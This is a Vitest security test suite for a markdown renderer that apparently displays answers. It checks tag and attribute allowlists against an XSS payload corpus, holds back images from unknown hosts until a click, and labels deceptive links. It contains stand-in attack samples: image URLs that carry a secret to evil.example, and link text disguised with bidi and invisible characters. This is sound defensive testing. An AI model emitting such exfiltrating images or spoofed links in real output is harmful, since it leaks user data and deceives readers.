// @vitest-environment happy-dom

import { describe, expect, it } from 'vitest'
import payloads from '../../fixtures/markdown/xss.json' with { type: 'json' }
import fc from '../../support/fast-check.ts'
import { createView, drawStreamed, drawWhole } from './support.ts'

/** Everything the view ever makes: a tag or an attribute that is not here is a hole. */
const TAGS = new Set(
  'A BDI BLOCKQUOTE BR BUTTON CODE DEL DIV EM H1 H2 H3 H4 H5 H6 HR IMG INPUT LI OL P PRE SECTION SPAN STRONG SUP TABLE TD TH THEAD TR UL'.split(
    ' ',
  ),
)
const ATTRIBUTES = new Set(
  'alt aria-label checked class data-loose decoding dir disabled href loading referrerpolicy rel role src start tabindex target title type'.split(
    ' ',
  ),
)
const CLASS = /^md(?:-[a-z-]+)?$/

function holesIn(root: Element): string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => {
    const holes = TAGS.has(element.tagName) ? [] : [element.tagName]
    for (const { name, value } of element.attributes) {
      if (!ATTRIBUTES.has(name)) holes.push(`${element.tagName} ${name}`)
      if (name === 'class' && !CLASS.test(value)) holes.push(`class ${value}`)
      if (name === 'type' && !['button', 'checkbox'].includes(value)) holes.push(`type ${value}`)
      if (name === 'href' && !/^(?:https?|mailto|tel):/.test(value)) holes.push(`href ${value}`)
      if (name === 'src' && new URL(value).host !== 'files.example') holes.push(`src ${value}`)
    }
    if (element.tagName === 'A' && element.getAttribute('rel') !== 'noopener noreferrer nofollow ugc') holes.push('rel')
    return holes
  })
}

describe('an answer that means harm', () => {
  it('has a corpus worth the name', () => {
    expect(new Set(payloads).size).toBeGreaterThanOrEqual(300)
  })

  it.each(payloads)('is text and safe links, however it is cut: %j', (payload) => {
    fc.assert(
      fc.property(
        fc.array(fc.nat(payload.length), { maxLength: 8 }),
        fc.constantFrom('', '# T\n\n', '- a\n- '),
        (cuts, before) => {
          const view = createView()
          const text = before + payload
          for (const cut of cuts.sort((a, b) => a - b)) {
            view.update(text.slice(0, before.length + cut), 1, false)
            expect(holesIn(view.element)).toEqual([])
          }
          view.update(text, 1, true)
          expect(holesIn(view.element)).toEqual([])
        },
      ),
      { numRuns: 8 },
    )
  })

  it('keeps its pictures waiting: a host that is not allowed is asked only after a click', () => {
    const { element } = drawWhole('![chart](https://evil.example/p.png?q=secret) ![ok](https://files.example/a.png)')
    document.body.append(element)
    expect([...element.querySelectorAll('img')].map((image) => image.src)).toEqual(['https://files.example/a.png'])
    const button = element.querySelector('button')
    expect(button?.textContent).toBe('Show image from evil.example')
    button?.click()
    const image = element.querySelector('img')
    expect([image?.src, image?.referrerPolicy, image?.alt]).toEqual([
      'https://evil.example/p.png?q=secret',
      'no-referrer',
      'chart',
    ])
  })

  it('keeps pictures waiting whose address is a definition', () => {
    const { element } = drawWhole('![chart][c] ![none][n]\n\n[c]: https://evil.example/p.png?q=secret')
    expect(element.querySelectorAll('img').length).toBe(0)
    expect(element.querySelector('button')?.textContent).toBe('Show image from evil.example')
    expect(element.textContent).toContain('![none][n]')
  })

  it.each(['\u061c', '\u200e', '\u200f', '\u202a', '\u202b', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068'])(
    'T45: what turns the direction of text ends an address that is read as it stands: %j',
    (turn) => {
      const { element } = drawWhole(`https://evil.example/${turn}moc.knab <https://evil.example/${turn}moc.knab>`)
      const links = [...element.querySelectorAll('a')]
      expect(links.map(({ href, textContent }) => [href, textContent])).toEqual(
        Array(2).fill(['https://evil.example/', 'https://evil.example/']),
      )
    },
  )

  it.each([
    ['[https://bank.example/login](https://evil.example/x)', 'https://bank.example/login (evil.example)'],
    ['[**HTTPS://bank**.example](http://evil.example:81/x)', 'HTTPS://bank.example (evil.example:81)'],
    ['[www.bank.example](https://bank.example.evil.example)', 'www.bank.example (bank.example.evil.example)'],
    ['[https://bank.example@evil.example](https://other.example)', 'https://bank.example@evil.example (other.example)'],
    ['[https://例え.example](https://xn--r8jz45g.example)', 'https://例え.example (xn--r8jz45g.example)'],
    ['[Go to https://bank.example](https://evil.example)', 'Go to https://bank.example (evil.example)'],
    ['[https://bank.example](mailto:me@evil.example)', 'https://bank.example (mailto:me@evil.example)'],
    ['[\u202eelpmaxe.knab//:sptth](https://evil.example)', '\u202eelpmaxe.knab//:sptth (evil.example)'],
    [
      '[![https://bank.example](https://x.example/a.png)](https://evil.example)',
      'Show image from x.example (evil.example)',
    ],
    [
      '[https://evil.example https://bank.example](https://evil.example)',
      'https://evil.example https://bank.example (evil.example)',
    ],
    [
      '[![https://evil.example/](https://x.example/a.png)https://bank.example](https://evil.example)',
      'Show image from x.examplehttps://bank.example (evil.example)',
    ],
    ['[ht\u200btps://bank.example](https://evil.example)', 'ht\u200btps://bank.example (evil.example)'],
    ['[https:\u2060//bank\u00ad.example](https://evil.example)', 'https:\u2060//bank\u00ad.example (evil.example)'],
    ...['\ufe0f', '\u034f', '\u3164', '\u115f'].map((unseen) => [
      `[ht${unseen}tps://bank.example](https://evil.example)`,
      `ht${unseen}tps://bank.example (evil.example)`,
    ]),
    ['[https：//bank.example](https://evil.example)', 'https：//bank.example (evil.example)'],
    ['[ｗww.bank.example](https://evil.example)', 'ｗww.bank.example (evil.example)'],
  ])('T45: says beside words that are an address where they lead in truth: %j', (source, shown) => {
    expect(drawWhole(source).element.querySelector('a')?.textContent).toBe(shown)
    const cuts = Array.from({ length: source.length }, (_, at) => at)
    expect(drawStreamed(source, cuts).element.querySelector('a')?.textContent).toBe(shown)
  })

  it.each([
    '[https://shop.example/a](https://www.shop.example/b)',
    '[www.shop.example](http://shop.example)',
    '[https://shop.example:443](http://shop.example)',
    '[our shop.example](https://evil.example)',
    'https://shop.example/a?b=c www.shop.example <https://shop.example>',
    'https://shop.example/a?b=https://other.example and https://archive.example/2026/https://other.example',
    '[https://shop.example and www.shop.example/a](https://shop.example)',
    '[\u2068https://shop.example\u2069](https://shop.example)',
  ])('says nothing beside words that lead where they say, or say nothing: %j', (source) => {
    const links = [...drawWhole(source).element.querySelectorAll('a')]
    expect(links.length).toBeGreaterThan(0)
    expect(links.filter(({ textContent }) => /\(/.test(textContent))).toEqual([])
  })

  it('never makes a link within a link', () => {
    const { element } = drawWhole(
      '[https://a.example [r] [^n]](https://b.example)\n\n[r]: https://c.example\n[^n]: note',
    )
    expect([...element.querySelectorAll('a')].filter((link) => link.querySelector('a, button'))).toEqual([])
  })
})
